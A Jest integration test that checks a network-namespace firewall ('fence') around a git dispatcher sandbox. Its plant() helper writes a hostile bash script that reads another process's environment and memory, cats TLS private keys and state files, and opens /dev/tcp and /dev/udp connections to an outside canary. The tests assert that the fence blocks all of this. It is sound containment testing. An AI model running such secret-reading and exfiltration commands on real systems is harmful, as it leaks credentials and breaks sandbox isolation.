import {execFileSync, spawnSync} from 'node:child_process'
import {readFileSync, rmSync, writeFileSync} from 'node:fs'
import {createServer, type AddressInfo, type Server} from 'node:net'
import {afterAll, beforeAll, describe, expect} from '@jest/globals'
import {uid} from '../../../core/layout.js'
import {TestDispatcher, type TestTask} from '../../support/dispatcher.js'
import {GitUpstream} from '../../support/git-upstream.js'
import {itUnless} from '../../support/when.js'

const obstacle =
  process.getuid?.() === 0 && spawnSync('sh', ['-c', 'command -v nft ip nsenter setpriv']).status === 0
    ? undefined
    : 'network namespaces with nft need root'
const name = `cage-door-${process.pid}`
const link = `cgd${process.pid % 100000}`
const [outside, inside] = [1, 2].map((last) => `10.197.${process.pid % 250}.${last}`) as [string, string]

let forge: GitUpstream
let door: TestDispatcher
let task: TestTask
let canary: Server
let reached = 0
let files = 0

const ip = (...args: string[]) => execFileSync('ip', args, {stdio: 'pipe'})

/** The dispatcher in a network namespace of its own, an upstream and a canary outside; the canary is the judge. */
beforeAll(async () => {
  if (obstacle !== undefined) return
  ip('netns', 'add', name)
  ip('link', 'add', link, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', name)
  ip('addr', 'add', `${outside}/30`, 'dev', link)
  ip('link', 'set', link, 'up')
  for (const args of [
    ['link', 'set', 'lo', 'up'],
    ['addr', 'add', `${inside}/30`, 'dev', 'eth0'],
    ['link', 'set', 'eth0', 'up'],
    ['route', 'add', 'default', 'via', outside],
  ])
    ip('-n', name, ...args)
  canary = createServer((socket) => {
    reached++
    socket.destroy()
  })
  await new Promise<void>((resolve) => canary.listen(0, outside, resolve))
  forge = await GitUpstream.start(outside)
  forge.create()
  forge.box.init('home')
  forge.box.commit('home', 'main', 'README.md', 'app\n')
  forge.box.git('home', 'push', '-q', forge.box.path('root/org/app.git'), 'main')
  door = await TestDispatcher.startBefore(forge, {pod: {name, address: inside}})
  task = door.upstreamTask('fix')
  door.clone(task, 'agent')
  door.box.git('agent', 'checkout', '-q', '-b', 'fix')
})
afterAll(async () => {
  if (obstacle !== undefined) return
  await door.stop()
  await forge.stop()
  canary.close()
  ip('netns', 'del', name)
})

const port = () => (canary.address() as AddressInfo).port
const push = () => {
  door.box.commit('agent', 'fix', `file-${++files}`, `content ${files}\n`)
  return door.gitAsAsync(task, 'agent', 'push', 'origin', 'fix')
}

/** A program in the place of one of git's own: what it says, and how often the canary was reached meanwhile. */
async function plant(): Promise<{said: string; reached: number}> {
  const report = `${door.volume}/report`
  const program = door.box.path('planted')
  const gate = door.pid('gate')
  rmSync(report, {force: true})
  const script = `#!/bin/bash
exec >"${report}" 2>/dev/null
id -u
cat /proc/${gate}/environ /proc/${gate}/cmdline /proc/self/environ
dd if=/proc/${gate}/mem bs=1 count=1 skip=$((0x1000)) && echo memory
cat "${door.box.path('tls')}"/*.key "${door.state}"/* "${door.run}"/*
(exec 3<>/dev/tcp/${outside}/${port()}) && echo connected
(exec 3<>/dev/tcp/${inside}/${door.port}) && echo door-opened
(exec 3<>/dev/tcp/127.0.0.1/${door.port}) && echo door-opened
echo x >/dev/udp/${outside}/${port()} && echo datagram
echo end
`
  writeFileSync(program, script, {mode: 0o755})
  await door.kill('git')
  door.startGit({planted: program})
  await door.ready()
  const before = reached
  await push()
  const said = readFileSync(report, 'latin1')
  await door.kill('git')
  door.startGit()
  await door.ready()
  return {said, reached: reached - before}
}

function fence(allow: string, publicPorts = ''): number | null {
  const env = {PATH: process.env['PATH'] ?? '', CAGE_FENCE_ALLOW: allow, CAGE_FENCE_PUBLIC: publicPorts}
  const folder = door.box.path('fence')
  execFileSync('mkdir', ['-p', folder])
  execFileSync('cp', ['images/proxy/fence.sh', 'images/dispatcher/fence.nft', folder])
  // The doors of the test are not those of the pod.
  execFileSync('sed', ['-i', `s/8090, 8443/${door.healthPort}, ${door.port}/`, `${folder}/fence.nft`])
  return spawnSync('nsenter', [`--net=/run/netns/${name}`, `${folder}/fence.sh`], {env}).status
}

/** Whether a connection opens for one user of the pod. */
function opens(user: number, address: string, to: number): boolean {
  const owner = [`--reuid=${user}`, `--regid=${user}`, '--clear-groups']
  const knock = ['timeout', '2', 'bash', '-c', `exec 3<>/dev/tcp/${address}/${to}`]
  const {status} = spawnSync('nsenter', [`--net=/run/netns/${name}`, 'setpriv', ...owner, ...knock])
  return status === 0
}

describe('the fence of the dispatcher', () => {
  itUnless(obstacle, 'without it a planted program gets out: the control of what follows', async () => {
    const {said, reached: times} = await plant()
    expect(said).toMatch(new RegExp(`^${uid.git}\n`))
    expect(said).toContain('connected')
    expect(said).toContain('door-opened')
    expect(times).toBeGreaterThan(0)
    expect(opens(uid.gate, outside, port())).toBe(true)
  })

  itUnless(
    obstacle,
    'a program planted among the children of git reads no token and opens no connection',
    async () => {
      expect(fence(`${outside}/tcp/${forge.port}`)).toBe(0)
      const {said, reached: times} = await plant()
      expect(said).toMatch(new RegExp(`^${uid.git}\n`))
      expect(said).toContain('end')
      for (const word of ['connected', 'door-opened', 'memory', 'PRIVATE KEY', forge.token, task.handle])
        expect(said).not.toContain(word)
      expect(times).toBe(0)
    },
  )

  itUnless(obstacle, 'gate reaches its upstream and nothing beside it, and tasks reach gate', async () => {
    expect((await push()).code).toBe(0)
    expect(forge.refs()['refs/heads/fix']).toBe(door.box.git('agent', 'rev-parse', 'fix'))
    expect(opens(uid.gate, outside, forge.port)).toBe(true)
    expect(opens(uid.gate, outside, port())).toBe(false)
    for (const user of [uid.git, 0, 1000]) expect(opens(user, outside, forge.port)).toBe(false)
  })

  itUnless(obstacle, 'for a hosted upstream there is no way out at all', async () => {
    expect(fence('')).toBe(0)
    expect(opens(uid.gate, outside, forge.port)).toBe(false)
    expect(door.gitAs(task, 'agent', 'ls-remote', 'origin').stderr).toContain('cannot be reached')
    const response = await door.request({path: '/ready', handle: task.handle})
    expect(response.status).toBe(200)
  })

  itUnless(
    obstacle,
    'public ports open public addresses and no special one; nonsense closes nothing and fails',
    () => {
      expect(fence('', String(port()))).toBe(0)
      expect(opens(uid.gate, outside, port())).toBe(false)
      for (const ports of ['0', '70000', '443;', '-1']) expect(fence('', ports)).toBe(1)
    },
  )
})
